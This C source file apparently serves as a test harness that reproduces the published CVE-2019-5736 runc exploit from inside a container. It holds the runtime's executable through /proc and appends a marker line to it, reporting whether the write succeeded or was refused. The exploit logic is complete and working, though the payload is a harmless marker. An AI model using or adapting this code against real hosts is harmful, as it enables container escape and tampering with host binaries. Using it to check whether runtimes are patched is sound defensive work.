// CVE-2019-5736, as published (Dragon Sector; Frichetten's proof of
// concept), run inside a container: find a process the runtime started
// whose program is /proc/self/exe, open /proc/PID/exe, wait for the process
// to exit (a running executable cannot be opened for writing), then reopen
// the descriptor through /proc/self/fd for writing and append to the file.
//
// exe-rewrite OUT SECONDS FIFO: writes OUT/ready when it watches, and
// OUT/result at the end: "WROTE", "refused: ..." or "no runtime process".
// The runtime process is made to wait on FIFO (its --log) until the
// attacker holds its exe, so the attack does not depend on winning a race.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char *out;

static void report(const char *fmt, const char *arg) {
    char path[256], text[512];
    snprintf(path, sizeof path, "%s/result.tmp", out);
    snprintf(text, sizeof text, fmt, arg);
    FILE *f = fopen(path, "w");
    if (!f) exit(2);
    fprintf(f, "%s\n", text);
    fclose(f);
    char final[256];
    snprintf(final, sizeof final, "%s/result", out);
    rename(path, final);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

// The pid of a process whose argv[0] is /proc/self/exe, or 0.
static int find_target(void) {
    DIR *d = opendir("/proc");
    if (!d) return 0;
    struct dirent *e;
    int found = 0;
    while (!found && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        char path[64], cmd[64] = {0};
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) continue;
        ssize_t n = read(fd, cmd, sizeof cmd - 1);
        close(fd);
        if (n > 0 && strcmp(cmd, "/proc/self/exe") == 0) found = pid;
    }
    closedir(d);
    return found;
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    out = argv[1];
    double deadline = now() + atof(argv[2]);
    const char *fifo = argv[3];
    char path[256];
    snprintf(path, sizeof path, "%s/ready", out);
    close(open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));

    int pid = 0, exe = -1;
    while (exe < 0 && now() < deadline) {
        if (!(pid = find_target())) { usleep(1000); continue; }
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        exe = open(path, O_PATH | O_CLOEXEC);
    }
    if (exe < 0) { report("no runtime process%s", ""); return 0; }
    // Let the runtime go on and exit.
    int reader = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    while (now() < deadline) {
        int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w < 0 && errno == ETXTBSY) {
            char drain[512];
            if (reader >= 0) (void)!read(reader, drain, sizeof drain);
            usleep(1000);
            continue;
        }
        if (w < 0) { report("refused: open for writing: %s", strerror(errno)); return 0; }
        static const char mark[] = "\n# rewritten from inside the container\n";
        if (write(w, mark, sizeof mark - 1) != (ssize_t)(sizeof mark - 1)) {
            report("refused: write: %s", strerror(errno));
            return 0;
        }
        report("WROTE%s", "");
        return 0;
    }
    report("refused: the runtime process never exited%s", "");
    return 0;
}
